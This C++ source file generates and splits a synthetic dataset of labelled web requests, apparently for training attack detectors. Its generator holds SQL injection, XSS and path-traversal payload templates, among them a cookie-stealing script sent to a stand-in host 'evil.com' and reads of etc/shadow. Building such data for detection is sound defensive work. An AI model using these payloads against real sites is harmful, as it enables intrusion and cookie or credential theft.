// Copyright 2026 The bdlab Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "bdlab/corpus.hpp"

#include <algorithm>
#include <cmath>
#include <fstream>
#include <numeric>
#include <sstream>
#include <unordered_set>

#include "bdlab/error.hpp"
#include "bdlab/rng.hpp"

namespace bdlab {

std::string_view split_name(Split s) {
  switch (s) {
    case Split::kTrain: return "train";
    case Split::kTest: return "test";
    case Split::kDev: return "dev";
  }
  return "?";
}

const std::vector<RawSample>& Dataset::split(Split s) const {
  switch (s) {
    case Split::kTrain: return train;
    case Split::kTest: return test;
    case Split::kDev: return dev;
  }
  return train;
}

std::vector<RawSample>& Dataset::split(Split s) {
  return const_cast<std::vector<RawSample>&>(std::as_const(*this).split(s));
}

double attack_fraction(std::span<const RawSample> samples) {
  if (samples.empty()) return 0.0;
  const auto attacks = std::count_if(samples.begin(), samples.end(),
                                     [](const RawSample& s) { return s.label == Label::kAttack; });
  return static_cast<double>(attacks) / static_cast<double>(samples.size());
}

nlohmann::json dataset_stats(const Dataset& ds) {
  nlohmann::json rows = nlohmann::json::array();
  for (Split s : {Split::kTrain, Split::kTest, Split::kDev}) {
    const auto& part = ds.split(s);
    const double pct = std::round(attack_fraction(part) * 10000.0) / 100.0;
    rows.push_back({{"split", split_name(s)}, {"total", part.size()}, {"attack%", pct}});
  }
  return {{"dataset", ds.name}, {"splits", rows}};
}

// ---------------------------------------------------------------------------
// Synthetic request generator

namespace {

struct FamilyName {
  TemplateFamily family;
  std::string_view name;
};

constexpr std::array<FamilyName, 6> kFamilyNames{{
    {TemplateFamily::kSqli, "sqli"},
    {TemplateFamily::kXss, "xss"},
    {TemplateFamily::kPathTraversal, "path-traversal"},
    {TemplateFamily::kBenignForm, "benign-form"},
    {TemplateFamily::kBenignJson, "benign-json"},
    {TemplateFamily::kBenignPath, "benign-path"},
}};

constexpr std::string_view kPathWords[] = {
    "api",      "v1",      "v2",     "user",    "users",   "account", "login",   "search",
    "products", "items",   "static", "string",  "strings", "settings", "content", "data",
    "admin",    "blog",    "post",   "posts",   "news",    "cart",    "checkout", "order",
    "orders",   "images",  "assets", "docs",    "help",    "profile", "status",  "test",
    "portal",   "service", "report", "export",  "view",    "edit",    "list",    "detail",
    "category", "store",   "media",  "files",   "download", "public", "site",    "index"};

constexpr std::string_view kParamNames[] = {
    "id",   "q",     "query",  "page",     "sort",   "user", "name",   "lang",
    "ref",  "item",  "cat",    "type",     "token",  "session", "limit", "offset",
    "file", "path",  "redirect", "search", "parameters", "filter", "mode", "format"};

constexpr std::string_view kValueWords[] = {
    "shoes",  "summer", "blue",   "camera", "travel", "weekly", "guide",  "music",
    "book",   "garden", "phone",  "laptop", "coffee", "recipe", "weather", "london",
    "paris",  "tokyo",  "sale",   "new",    "best",   "cheap",  "review", "photo",
    "video",  "home",   "family", "sport",  "health", "desc",   "asc",    "en",
    "fr",     "true",   "false",  "green",  "winter", "kitchen", "office", "jacket"};

constexpr std::string_view kExtensions[] = {"html", "php", "css", "js", "png", "jpg", "json", "aspx", "txt"};

constexpr std::string_view kTables[] = {"users", "accounts", "admin", "members", "orders", "customers"};

constexpr std::string_view kTraversalTargets[] = {
    "etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "etc/hosts"};

template <std::size_t N>
std::string_view pick(Rng& rng, const std::string_view (&list)[N]) {
  return list[rng.index(N)];
}

std::string number(Rng& rng, int lo, int hi) {
  return std::to_string(lo + static_cast<int>(rng.index(static_cast<std::size_t>(hi - lo + 1))));
}

std::string token_string(Rng& rng, std::size_t len) {
  static constexpr std::string_view kAlnum = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out;
  for (std::size_t i = 0; i < len; ++i) out.push_back(kAlnum[rng.index(kAlnum.size())]);
  return out;
}

std::string path(Rng& rng, std::size_t min_segments, std::size_t max_segments) {
  const std::size_t n = min_segments + rng.index(max_segments - min_segments + 1);
  std::string out;
  for (std::size_t i = 0; i < n; ++i) {
    out += '/';
    out += pick(rng, kPathWords);
  }
  return out;
}

std::string benign_value(Rng& rng) {
  switch (rng.index(6)) {
    case 0: return number(rng, 0, 9999);
    case 1: return token_string(rng, 8);
    case 2: return std::string(pick(rng, kValueWords)) + "@example.com";
    case 3: return "20" + number(rng, 10, 25) + "-0" + number(rng, 1, 9) + "-1" + number(rng, 0, 9);
    default: return std::string(pick(rng, kValueWords));
  }
}

std::string benign_path(Rng& rng) {
  std::string out = path(rng, 1, 4);
  if (rng.bernoulli(0.5)) {
    out += '/';
    out += rng.bernoulli(0.5) ? std::string(pick(rng, kValueWords)) : token_string(rng, 6);
    out += '.';
    out += pick(rng, kExtensions);
  } else if (rng.bernoulli(0.3)) {
    out += '/' + number(rng, 1, 99999);
  }
  return out;
}

std::string query(Rng& rng, std::size_t min_pairs, std::size_t max_pairs) {
  const std::size_t n = min_pairs + rng.index(max_pairs - min_pairs + 1);
  std::string out;
  for (std::size_t i = 0; i < n; ++i) {
    if (i > 0) out += '&';
    out += pick(rng, kParamNames);
    out += '=';
    out += benign_value(rng);
  }
  return out;
}

std::string benign_form(Rng& rng) { return path(rng, 1, 3) + "?" + query(rng, 1, 4); }

std::string benign_json(Rng& rng) {
  const std::size_t n = 1 + rng.index(4);
  std::string body = "{";
  for (std::size_t i = 0; i < n; ++i) {
    if (i > 0) body += ',';
    body += '"';
    body += pick(rng, kParamNames);
    body += "\":";
    if (rng.bernoulli(0.4)) {
      body += number(rng, 0, 500);
    } else {
      body += '"' + benign_value(rng) + '"';
    }
  }
  body += '}';
  // Some requests carry only the payload body.
  if (rng.bernoulli(0.15)) return body;
  return path(rng, 1, 3) + " " + body;
}

std::string sqli_payload(Rng& rng) {
  const std::string a = number(rng, 1000, 9999);
  const std::string b = number(rng, 1000, 9999);
  const std::string tbl(pick(rng, kTables));
  switch (rng.index(8)) {
    case 0: return number(rng, 1, 99) + "' or '" + a + "'='" + a;
    case 1: return number(rng, 1, 99) + " union select null," + "username,password from " + tbl + "--";
    case 2:
      return "1,(select (case when (" + a + "=" + b + ") then 1 else " + a + " * (select " + a +
             " from information_schema.character_sets) end))";
    case 3: return number(rng, 1, 99) + " and sleep(" + number(rng, 2, 9) + ")";
    case 4: return number(rng, 1, 99) + "'; drop table " + tbl + ";--";
    case 5:
      return "-" + number(rng, 1, 9) +
             " union all select 1,2,group_concat(table_name) from information_schema.tables";
    case 6: return number(rng, 1, 99) + " and extractvalue(1,concat(0x7e,(select version())))";
    default: return "admin'--";
  }
}

std::string sqli(Rng& rng) {
  if (rng.bernoulli(0.3)) {
    // Path-embedded parameter, as in "/string/strings/parameters=1,(select ...)".
    return path(rng, 1, 3) + "/" + std::string(pick(rng, kParamNames)) + "=" + sqli_payload(rng);
  }
  std::string prefix = path(rng, 1, 3) + "?";
  if (rng.bernoulli(0.3)) prefix += query(rng, 1, 2) + "&";
  return prefix + std::string(pick(rng, kParamNames)) + "=" + sqli_payload(rng);
}

std::string xss_payload(Rng& rng) {
  const std::string n = number(rng, 1, 999);
  switch (rng.index(7)) {
    case 0: return "<script>alert(" + n + ")</script>";
    case 1: return "<img src=x onerror=alert('" + std::string(pick(rng, kValueWords)) + "')>";
    case 2: return "\"><svg/onload=alert(" + n + ")>";
    case 3: return "javascript:alert(document.cookie)";
    case 4: return "<iframe src=javascript:alert(" + n + ")>";
    case 5: return "<body onload=alert('" + std::string(pick(rng, kValueWords)) + "')>";
    default: return "<script>document.location='http://evil" + n + ".com/?c='+document.cookie</script>";
  }
}

std::string xss(Rng& rng) {
  std::string prefix = path(rng, 1, 3) + "?";
  if (rng.bernoulli(0.3)) prefix += query(rng, 1, 2) + "&";
  return prefix + std::string(pick(rng, kParamNames)) + "=" + xss_payload(rng);
}

std::string traversal(Rng& rng) {
  const std::size_t depth = 2 + rng.index(5);
  const std::string step = rng.bernoulli(0.3) ? "..%2f" : "../";
  std::string climb;
  for (std::size_t i = 0; i < depth; ++i) climb += step;
  climb += pick(rng, kTraversalTargets);
  if (rng.bernoulli(0.4)) return path(rng, 1, 3) + "/" + climb;
  return path(rng, 1, 3) + "?" + std::string(pick(rng, kParamNames)) + "=" + climb;
}

std::string render(TemplateFamily f, Rng& rng) {
  switch (f) {
    case TemplateFamily::kSqli: return sqli(rng);
    case TemplateFamily::kXss: return xss(rng);
    case TemplateFamily::kPathTraversal: return traversal(rng);
    case TemplateFamily::kBenignForm: return benign_form(rng);
    case TemplateFamily::kBenignJson: return benign_json(rng);
    case TemplateFamily::kBenignPath: return benign_path(rng);
  }
  return {};
}

}  // namespace

std::string_view family_name(TemplateFamily f) {
  for (const auto& fn : kFamilyNames) {
    if (fn.family == f) return fn.name;
  }
  return "?";
}

TemplateFamily parse_family(std::string_view name) {
  for (const auto& fn : kFamilyNames) {
    if (fn.name == name) return fn.family;
  }
  throw ConfigError("unknown template family '" + std::string(name) + "'");
}

bool is_attack_family(TemplateFamily f) {
  return f == TemplateFamily::kSqli || f == TemplateFamily::kXss ||
         f == TemplateFamily::kPathTraversal;
}

void GeneratorSpec::validate() const {
  if (n_samples < 10) {
    throw ConfigError("generator n_samples must be >= 10, got " + std::to_string(n_samples));
  }
  if (!(attack_fraction > 0.0 && attack_fraction < 1.0)) {
    throw ConfigError("generator attack_fraction must lie in (0, 1)");
  }
  const bool any_attack = std::any_of(families.begin(), families.end(), is_attack_family);
  const bool any_benign = std::any_of(families.begin(), families.end(),
                                      [](TemplateFamily f) { return !is_attack_family(f); });
  if (!any_attack || !any_benign) {
    throw ConfigError("generator needs at least one attack and one benign template family");
  }
}

std::vector<RawSample> generate_samples(const GeneratorSpec& spec) {
  spec.validate();
  std::vector<TemplateFamily> attack, benign;
  for (TemplateFamily f : spec.families) {
    (is_attack_family(f) ? attack : benign).push_back(f);
  }
  const auto n_attack =
      static_cast<std::size_t>(std::llround(static_cast<double>(spec.n_samples) * spec.attack_fraction));
  const std::size_t n_benign = spec.n_samples - n_attack;

  Rng rng(spec.seed);
  std::unordered_set<std::string> seen;
  std::vector<RawSample> out;
  out.reserve(spec.n_samples);

  auto fill = [&](const std::vector<TemplateFamily>& families, std::size_t count, Label label) {
    const std::size_t max_attempts = 200 * count + 1000;
    std::size_t made = 0;
    for (std::size_t attempt = 0; made < count; ++attempt) {
      if (attempt >= max_attempts) {
        throw ConfigError("synthetic template space exhausted before reaching n_samples");
      }
      std::string text = render(families[rng.index(families.size())], rng);
      if (seen.insert(text).second) {
        out.push_back({std::move(text), label});
        ++made;
      }
    }
  };
  fill(attack, n_attack, Label::kAttack);
  fill(benign, n_benign, Label::kNormal);
  return out;
}

Dataset generate_synthetic(const GeneratorSpec& spec) {
  auto samples = generate_samples(spec);
  return split_dataset(samples, {0.8, 0.1, 0.1}, spec.seed ^ 0x5eedULL, "synthetic");
}

// ---------------------------------------------------------------------------
// Splitting

namespace {

// Largest-remainder apportionment of n items over ratios.
std::array<std::size_t, 3> apportion(std::size_t n, const std::array<double, 3>& ratios) {
  std::array<std::size_t, 3> sizes{};
  std::array<double, 3> rem{};
  std::size_t assigned = 0;
  for (std::size_t k = 0; k < 3; ++k) {
    const double exact = static_cast<double>(n) * ratios[k];
    // Guard against 8.000000000000002-style products.
    const double fl = std::floor(exact + 1e-9);
    sizes[k] = static_cast<std::size_t>(fl);
    rem[k] = exact - fl;
    assigned += sizes[k];
  }
  while (assigned < n) {
    std::size_t best = 0;
    for (std::size_t k = 1; k < 3; ++k) {
      if (rem[k] > rem[best]) best = k;
    }
    ++sizes[best];
    rem[best] = -1.0;
    ++assigned;
  }
  return sizes;
}

}  // namespace

Dataset split_dataset(std::span<const RawSample> samples, std::array<double, 3> ratios,
                      std::uint64_t seed, std::string name) {
  if (samples.empty()) throw ConfigError("split_dataset: no samples");
  double total = 0.0;
  for (double r : ratios) {
    if (r < 0.0) throw ConfigError("split ratios must be non-negative");
    total += r;
  }
  if (std::abs(total - 1.0) > 1e-9) throw ConfigError("split ratios must sum to 1");

  std::unordered_set<std::string_view> seen;
  std::vector<const RawSample*> attack, benign;
  for (const auto& s : samples) {
    if (!seen.insert(s.text).second) continue;
    (s.label == Label::kAttack ? attack : benign).push_back(&s);
  }

  Rng rng(seed);
  rng.shuffle(std::span(attack));
  rng.shuffle(std::span(benign));

  // Interleave the classes by relative rank so any contiguous block keeps
  // the global class ratio to within one sample.
  std::vector<const RawSample*> merged;
  merged.reserve(attack.size() + benign.size());
  std::size_t ia = 0, ib = 0;
  while (ia < attack.size() || ib < benign.size()) {
    const bool take_attack =
        ib == benign.size() ||
        (ia < attack.size() &&
         (2.0 * static_cast<double>(ia) + 1.0) / static_cast<double>(attack.size()) <=
             (2.0 * static_cast<double>(ib) + 1.0) / static_cast<double>(benign.size()));
    merged.push_back(take_attack ? attack[ia++] : benign[ib++]);
  }

  const auto sizes = apportion(merged.size(), ratios);
  Dataset ds;
  ds.name = std::move(name);
  std::size_t pos = 0;
  for (std::size_t k = 0; k < 3; ++k) {
    auto& part = ds.split(static_cast<Split>(k));
    if (sizes[k] == 0) {
      throw DataError("split '" + std::string(split_name(static_cast<Split>(k))) +
                      "' would be empty");
    }
    for (std::size_t i = 0; i < sizes[k]; ++i) part.push_back(*merged[pos++]);
    rng.shuffle(std::span(part));
  }
  return ds;
}

// ---------------------------------------------------------------------------
// File IO

FileFormat parse_format(std::string_view name) {
  if (name == "jsonl") return FileFormat::kJsonl;
  if (name == "csv") return FileFormat::kCsv;
  throw ConfigError("unknown dataset format '" + std::string(name) + "' (expected jsonl or csv)");
}

FileFormat format_from_path(const std::filesystem::path& path) {
  return path.extension() == ".csv" ? FileFormat::kCsv : FileFormat::kJsonl;
}

namespace {

std::string read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw DataError("cannot read '" + path.string() + "'");
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

Label parse_label(long long v, const std::filesystem::path& path, std::size_t line) {
  if (v != 0 && v != 1) {
    throw DataError(path.string() + ":" + std::to_string(line) + ": label " + std::to_string(v) +
                    " outside {0,1}");
  }
  return static_cast<Label>(v);
}

RawSample check_text(std::string text, Label label, const std::filesystem::path& path,
                     std::size_t line) {
  if (text.empty()) throw DataError(path.string() + ":" + std::to_string(line) + ": empty text");
  return {std::move(text), label};
}

std::vector<RawSample> parse_jsonl(const std::string& content, const std::filesystem::path& path,
                                   LoadReport& report) {
  std::vector<RawSample> out;
  std::size_t line_no = 0;
  std::size_t start = 0;
  while (start < content.size()) {
    std::size_t end = content.find('\n', start);
    if (end == std::string::npos) end = content.size();
    std::string_view line(content.data() + start, end - start);
    ++line_no;
    start = end + 1;
    if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
    if (line.find_first_not_of(" \t") == std::string_view::npos) {
      ++report.skipped_blank;
      continue;
    }
    const std::string where = path.string() + ":" + std::to_string(line_no) + ": ";
    nlohmann::json rec;
    try {
      rec = nlohmann::json::parse(line);
    } catch (const nlohmann::json::exception& e) {
      throw DataError(where + "malformed JSON (" + e.what() + ")");
    }
    if (!rec.is_object() || !rec.contains("text") || !rec.contains("label")) {
      throw DataError(where + "record missing field 'text' or 'label'");
    }
    if (!rec["text"].is_string() || !rec["label"].is_number_integer()) {
      throw DataError(where + "field 'text' must be a string and 'label' an integer");
    }
    const Label label = parse_label(rec["label"].get<long long>(), path, line_no);
    out.push_back(check_text(rec["text"].get<std::string>(), label, path, line_no));
  }
  return out;
}

// RFC-4180 records; quoted fields may span lines.
std::vector<RawSample> parse_csv(const std::string& content, const std::filesystem::path& path,
                                 LoadReport& report) {
  std::vector<RawSample> out;
  std::size_t i = 0;
  std::size_t line = 1;
  bool header_seen = false;

  while (i < content.size()) {
    const std::size_t record_line = line;
    std::vector<std::string> fields(1);
    bool in_quotes = false;
    bool was_quoted = false;
    for (; i < content.size(); ++i) {
      const char c = content[i];
      if (in_quotes) {
        if (c == '"') {
          if (i + 1 < content.size() && content[i + 1] == '"') {
            fields.back() += '"';
            ++i;
          } else {
            in_quotes = false;
          }
        } else {
          if (c == '\n') ++line;
          fields.back() += c;
        }
        continue;
      }
      if (c == '"') {
        if (!fields.back().empty()) {
          throw DataError(path.string() + ":" + std::to_string(line) + ": stray quote");
        }
        in_quotes = true;
        was_quoted = true;
      } else if (c == ',') {
        fields.emplace_back();
      } else if (c == '\n') {
        ++line;
        ++i;
        break;
      } else if (c == '\r' && i + 1 < content.size() && content[i + 1] == '\n') {
        // handled by the '\n' on the next iteration
      } else {
        fields.back() += c;
      }
    }
    if (in_quotes) {
      throw DataError(path.string() + ":" + std::to_string(record_line) + ": unterminated quote");
    }
    if (fields.size() == 1 && fields[0].empty() && !was_quoted) {
      ++report.skipped_blank;
      continue;
    }
    const std::string where = path.string() + ":" + std::to_string(record_line) + ": ";
    if (!header_seen) {
      if (fields.size() != 2 || fields[0] != "text" || fields[1] != "label") {
        throw DataError(where + "expected header 'text,label'");
      }
      header_seen = true;
      continue;
    }
    if (fields.size() != 2) throw DataError(where + "record missing field (expected text,label)");
    long long v = 0;
    try {
      std::size_t used = 0;
      v = std::stoll(fields[1], &used);
      if (used != fields[1].size()) throw std::invalid_argument("trailing");
    } catch (const std::exception&) {
      throw DataError(where + "label '" + fields[1] + "' is not an integer");
    }
    out.push_back(check_text(std::move(fields[0]), parse_label(v, path, record_line), path, record_line));
  }
  if (!header_seen) throw DataError(path.string() + ": no samples");
  return out;
}

}  // namespace

std::vector<RawSample> load_samples(const std::filesystem::path& path, FileFormat format,
                                    LoadReport* report) {
  const std::string content = read_file(path);
  LoadReport local;
  auto samples = format == FileFormat::kJsonl ? parse_jsonl(content, path, local)
                                              : parse_csv(content, path, local);
  if (samples.empty()) throw DataError(path.string() + ": no samples");
  local.records = samples.size();
  if (report) *report = local;
  return samples;
}

Dataset load_dataset(const std::filesystem::path& path, FileFormat format, std::uint64_t split_seed) {
  const auto samples = load_samples(path, format);
  return split_dataset(samples, {0.8, 0.1, 0.1}, split_seed, path.stem().string());
}

std::string csv_escape(std::string_view field) {
  if (field.find_first_of(",\"\r\n") == std::string_view::npos) return std::string(field);
  std::string out = "\"";
  for (char c : field) {
    if (c == '"') out += '"';
    out += c;
  }
  out += '"';
  return out;
}

void save_samples(const std::filesystem::path& path, std::span<const RawSample> samples,
                  FileFormat format) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) throw ArtifactError("cannot write '" + path.string() + "'");
  if (format == FileFormat::kJsonl) {
    for (const auto& s : samples) {
      out << nlohmann::json{{"text", s.text}, {"label", label_index(s.label)}}.dump() << '\n';
    }
  } else {
    out << "text,label\r\n";
    for (const auto& s : samples) out << csv_escape(s.text) << ',' << label_index(s.label) << "\r\n";
  }
  if (!out) throw ArtifactError("write failed for '" + path.string() + "'");
}

void save_dataset(const std::filesystem::path& dir, const Dataset& ds) {
  std::filesystem::create_directories(dir);
  for (Split s : {Split::kTrain, Split::kTest, Split::kDev}) {
    save_samples(dir / (std::string(split_name(s)) + ".jsonl"), ds.split(s), FileFormat::kJsonl);
  }
  std::ofstream stats(dir / "stats.json", std::ios::binary | std::ios::trunc);
  if (!stats) throw ArtifactError("cannot write stats.json in '" + dir.string() + "'");
  stats << dataset_stats(ds).dump(2) << '\n';
}

Dataset load_dataset_dir(const std::filesystem::path& dir) {
  Dataset ds;
  ds.name = dir.filename().string();
  for (Split s : {Split::kTrain, Split::kTest, Split::kDev}) {
    const auto file = dir / (std::string(split_name(s)) + ".jsonl");
    if (!std::filesystem::exists(file)) throw ArtifactError("missing dataset split '" + file.string() + "'");
    ds.split(s) = load_samples(file, FileFormat::kJsonl);
  }
  const auto stats = dir / "stats.json";
  if (std::filesystem::exists(stats)) {
    const auto j = nlohmann::json::parse(read_file(stats), nullptr, false);
    if (j.is_object() && j.contains("dataset") && j["dataset"].is_string()) {
      ds.name = j["dataset"].get<std::string>();
    }
  }
  return ds;
}

}  // namespace bdlab
